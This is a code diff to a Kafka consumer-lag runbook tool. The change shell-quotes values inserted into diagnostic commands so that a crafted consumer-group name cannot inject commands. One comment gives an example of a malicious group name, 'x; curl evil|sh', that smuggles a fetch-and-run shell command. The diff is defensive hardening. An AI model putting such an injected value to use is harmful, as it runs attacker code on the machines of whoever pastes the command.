@@ -13,6 +13,7 @@ Front matter::
     diagnostic_steps:                 # required, non-empty
       - title: Describe the group     # required
         command: kafka-consumer-groups.sh --bootstrap-server <broker> --describe --group {{ group }}
+                                      # values in a command are shell-quoted for you
         why: LAG per partition, and which CONSUMER-ID / HOST owns it     # optional
     actions:                          # optional list
       - action: scale_consumers       # required: a registered action (remediation.action_names())
@@ -23,7 +24,8 @@ Front matter::
           cooldown_minutes: 60        #   never shorter than the config's
     slack:
       next_steps:                     # required, non-empty: Slack mrkdwn templates;
-        - "..."                       # {{ group }} {{ topic }} {{ cluster }} {{ partitions }} are escaped
+        - "..."                       # {{ group }} {{ topic }} {{ cluster }} {{ partitions }} are escaped;
+                                      # a command inside the text: `... --group {{ group | shell | code }}`
 
 The Markdown body after the front matter is the human-readable runbook.
 """
@@ -262,7 +264,7 @@ def load_runbooks(path: str | os.PathLike | None = None) -> list[Runbook]:
 
 def choose_actions(finding: Mapping[str, Any], runbooks: Iterable[Runbook]) -> Plan:
     """The runbook plan for one finding (contract 2). Pure: reads nothing but its arguments."""
-    from lagdoctor.notify.templates import render_mrkdwn_source, render_plain
+    from lagdoctor.notify.templates import render_mrkdwn_source, render_plain, shell_quote
     from lagdoctor.remediation.actions import get_action
 
     diagnosis, severity = str(finding.get("diagnosis", "")), str(finding.get("severity", ""))
@@ -270,6 +272,9 @@ def choose_actions(finding: Mapping[str, Any], runbooks: Iterable[Runbook]) -> P
     if runbook is None:
         return Plan(None, diagnosis, diagnosis, severity, (), (), ())
     values = template_values(finding)
+    # Commands are pasted into a shell: every value is one quoted word there, so a
+    # group named `x; curl evil|sh` cannot run anything, whatever the runbook says.
+    shell_values = {k: shell_quote(v) for k, v in values.items()}
     planned = []
     for ra in runbook.actions:
         if severity not in ra.severities:
@@ -284,7 +289,7 @@ def choose_actions(finding: Mapping[str, Any], runbooks: Iterable[Runbook]) -> P
         runbook=runbook.name, title=runbook.title, diagnosis=diagnosis, severity=severity,
         next_steps=tuple(render_mrkdwn_source(s, **values) for s in runbook.next_steps),
         diagnostic_steps=tuple(
-            DiagnosticStep(s.title, render_plain(s.command, **values) if s.command else "",
+            DiagnosticStep(s.title, render_plain(s.command, **shell_values) if s.command else "",
                            render_plain(s.why, **values) if s.why else "")
             for s in runbook.diagnostic_steps),
         actions=tuple(planned),
